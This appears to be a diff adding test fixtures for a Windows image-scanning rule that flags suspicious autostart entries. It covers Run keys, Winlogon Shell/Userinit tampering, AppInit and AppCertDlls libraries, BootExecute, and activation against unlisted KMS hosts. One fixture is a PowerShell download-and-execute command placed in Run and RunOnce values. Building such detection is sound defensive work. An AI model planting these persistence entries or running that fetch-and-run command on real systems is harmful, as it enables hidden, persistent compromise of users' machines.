@@ -1,0 +1,115 @@
+// What Windows starts by itself: replaced parts, fetched texts, activation; and the starts of honest images.
+import { test } from 'uvu';
+import { autostartCommand } from '../../../rules/activation/autostart-command.ts';
+import type { FakeValue } from '../../helpers/fake-image.ts';
+import { makeLink } from '../../helpers/make-link.ts';
+import { windowsRuleTester } from '../../helpers/on-windows.ts';
+
+const RUN = 'Microsoft\\Windows\\CurrentVersion\\Run';
+const WINLOGON = 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
+const STARTUP = '/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp';
+const software = (key: string, values: Readonly<Record<string, FakeValue>>) => ({ SOFTWARE: { [key]: values } });
+const at = (key: string, name: string, hive = 'SOFTWARE') => ({ hive, key, name });
+const fetched = 'powershell -c "irm https://x.example/a | iex"';
+
+windowsRuleTester(autostartCommand, {
+  good: [
+    {
+      name: 'programs of vendors',
+      image: software(RUN, { a: '"C:\\Program Files\\A\\a.exe" /tray', b: '%windir%\\system32\\SecurityHealthSystray.exe' }),
+    },
+    {
+      name: 'Winlogon as Windows has it, in its writings',
+      image: {
+        SOFTWARE: {
+          [WINLOGON]: {
+            Shell: 'explorer.exe',
+            Userinit: 'C:\\Windows\\system32\\userinit.exe,',
+            VmApplet: 'SystemPropertiesPerformance.exe /pagefile',
+          },
+          [`Wow6432Node\\${WINLOGON}`]: { Userinit: 'userinit.exe', Shell: 'C:\\Windows\\explorer.exe' },
+        },
+      },
+    },
+    {
+      name: 'a sealed Windows, and what the boot runs',
+      image: {
+        SYSTEM: {
+          Setup: { CmdLine: 'oobe\\windeploy.exe' },
+          'ControlSet001\\Control\\Session Manager': { BootExecute: ['autocheck autochk *'] },
+        },
+      },
+    },
+    {
+      name: 'activation at a listed host',
+      image: software(RUN, { a: 'cscript slmgr.vbs /skms kms.corp.example' }),
+      policy: { kmsHosts: ['kms.corp.example'] },
+    },
+    {
+      name: 'a link to a program',
+      image: { files: { [`${STARTUP}/a.lnk`]: makeLink({ local: 'C:\\Program Files\\A\\a.exe', arguments: '--tray' }) } },
+    },
+    { name: 'a value named Shell among the starts of every logon', image: software(RUN, { Shell: 'C:\\Program Files\\S\\s.exe' }) },
+  ],
+  bad: [
+    {
+      name: 'a fetched text at each logon, of a user and of the machine',
+      image: { SOFTWARE: { [RUN]: { a: fetched } }, hives: { '/Users/Default/NTUSER.DAT': { [`Software\\${RUN}Once`]: { b: fetched } } } },
+      findings: [
+        { messageId: 'fetches', at: at(RUN, 'a') },
+        { messageId: 'fetches', at: at(`Software\\${RUN}Once`, 'b', '/Users/Default/NTUSER.DAT') },
+      ],
+    },
+    {
+      name: 'another shell, and more than userinit',
+      image: software(WINLOGON, {
+        Shell: 'explorer.exe, C:\\ProgramData\\a.cmd',
+        Userinit: 'C:\\Windows\\system32\\userinit.exe,C:\\a.exe,',
+      }),
+      findings: [
+        { messageId: 'shell', at: at(WINLOGON, 'Shell') },
+        { messageId: 'userinit', at: at(WINLOGON, 'Userinit') },
+      ],
+    },
+    {
+      name: 'libraries in every program, another command of Setup and of the boot',
+      image: {
+        SOFTWARE: { 'Microsoft\\Windows NT\\CurrentVersion\\Windows': { AppInit_DLLs: 'C:\\a.dll' } },
+        SYSTEM: {
+          Setup: { CmdLine: 'C:\\a.cmd' },
+          'ControlSet001\\Control\\Session Manager': { BootExecute: ['autocheck autochk *', 'native'] },
+          'ControlSet001\\Control\\Session Manager\\AppCertDlls': { any: 'C:\\b.dll' },
+        },
+      },
+      findings: [
+        { messageId: 'library', at: at('Microsoft\\Windows NT\\CurrentVersion\\Windows', 'AppInit_DLLs'), level: 'weak' },
+        { messageId: 'otherProgram', at: at('Setup', 'CmdLine', 'SYSTEM'), level: 'weak' },
+        { messageId: 'otherProgram', at: at('ControlSet001\\Control\\Session Manager', 'BootExecute', 'SYSTEM') },
+        { messageId: 'library', at: at('ControlSet001\\Control\\Session Manager\\AppCertDlls', 'any', 'SYSTEM') },
+      ],
+    },
+    {
+      name: 'a link that activates, by its arguments',
+      image: {
+        files: { [`${STARTUP}/a.lnk`]: makeLink({ local: 'C:\\Windows\\System32\\cscript.exe', arguments: 'slmgr.vbs /skms 127.0.0.2' }) },
+      },
+      findings: [{ messageId: 'activates', at: { file: `${STARTUP}/a.lnk` }, level: 'certain' }],
+    },
+    {
+      name: 'a first logon and a start from the public folder',
+      image: {
+        SOFTWARE: { 'Microsoft\\Active Setup\\Installed Components\\{1}': { StubPath: 'C:\\Users\\Public\\a.exe' } },
+        files: {
+          '/Windows/Panther/unattend.xml':
+            '<unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="oobeSystem"><component name="Microsoft-Windows-Shell-Setup"><FirstLogonCommands><SynchronousCommand><CommandLine>cmd /c slmgr /skms 203.0.113.9</CommandLine></SynchronousCommand></FirstLogonCommands></component></settings></unattend>',
+        },
+      },
+      findings: [
+        { messageId: 'activates', at: { file: '/Windows/Panther/unattend.xml', line: 1 }, level: 'strong' },
+        { messageId: 'fromData', at: at('Microsoft\\Active Setup\\Installed Components\\{1}', 'StubPath') },
+      ],
+    },
+  ],
+});
+
+test.run();
